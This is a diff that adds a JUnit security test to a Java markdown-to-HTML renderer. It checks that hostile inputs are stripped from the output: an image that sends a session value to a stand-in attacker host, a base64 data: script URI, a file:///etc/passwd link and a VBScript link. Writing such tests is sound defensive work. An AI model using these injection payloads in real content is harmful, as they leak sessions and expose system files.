@@ -19,6 +19,22 @@ class MarkdownHtmlTest {
   }
 
   @Test
+  @org.junit.jupiter.api.Tag("security")
+  void imagesLoadFromNowhereAndDataOrOtherSchemesLeadNowhere() {
+    MarkdownHtml.Rendered r =
+        MarkdownHtml.render(
+            "Market ![a chart](https://attacker.example/p?session=abc) sized.\n\n"
+                + "[open](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd)"
+                + " [vb](VBScript:msgbox) [mail](mailto:a@example.com) [here](/sessions)"
+                + " [part](#scores)\n");
+    assertThat(r.html())
+        .doesNotContain("<img", "attacker.example", "data:", "file:", "vbscript", "VBScript")
+        .contains("Market a chart sized.")
+        .contains("href=\"mailto:a@example.com\"", "href=\"/sessions\"", "href=\"#scores\"")
+        .contains("rel=\"nofollow noopener noreferrer\"");
+  }
+
+  @Test
   void theContentsLinkToEachSectionAndSubsection() {
     MarkdownHtml.Rendered r =
         MarkdownHtml.render(
